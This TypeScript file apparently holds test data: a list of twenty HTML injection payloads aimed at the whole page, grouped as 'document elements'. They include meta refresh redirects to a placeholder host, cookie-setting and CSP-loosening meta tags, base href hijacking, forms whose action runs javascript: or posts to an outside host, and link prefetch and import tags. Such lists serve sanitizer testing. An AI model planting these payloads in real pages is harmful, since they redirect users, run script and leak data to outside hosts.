import { family } from "./payload";

/** Elements that act on the whole document: where it leads, what its addresses mean, what it sends. */
export const documentElements = family("document elements", 900, [
  '<meta http-equiv="refresh" content="0;url=https:HOST">',
  "<meta http-equiv=refresh content='0;url=data:text/html,<script>RUN</script>'>",
  '<meta http-equiv="Set-Cookie" content="hostile=1">',
  '<meta http-equiv="Content-Security-Policy" content="script-src *">',
  '<meta name="referrer" content="unsafe-url"><meta name="hot-papers" content="hydrate">',
  "<base href=https:HOST/><img src=relative.png>",
  '<base target="x"><base href="javascript:/RUN">',
  "<form action=https:HOST><input autofocus name=q><button>send</button></form>",
  "<form action=javascript:RUN><button>send</button></form>",
  "<form id=f></form><button form=f formaction=javascript:RUN>send</button>",
  "<form><input type=submit formaction=javascript:RUN></form>",
  "<isindex action=javascript:RUN>",
  '<link rel="stylesheet" href="https:HOST">',
  "<link rel=prefetch href=https:HOST><link rel=preload as=image href=https:HOST>",
  "<link rel=dns-prefetch href=https:HOST><link rel=preconnect href=https:HOST>",
  "<link rel=modulepreload href=https:HOST>",
  "<link rel=import href='data:text/html,<script>RUN</script>'>",
  "<link rel=icon href=https:HOST><link rel=manifest href=https:HOST>",
  "<html manifest=https:HOST onclick=RUN>",
  "<frameset><frame src=javascript:RUN></frameset>",
]);
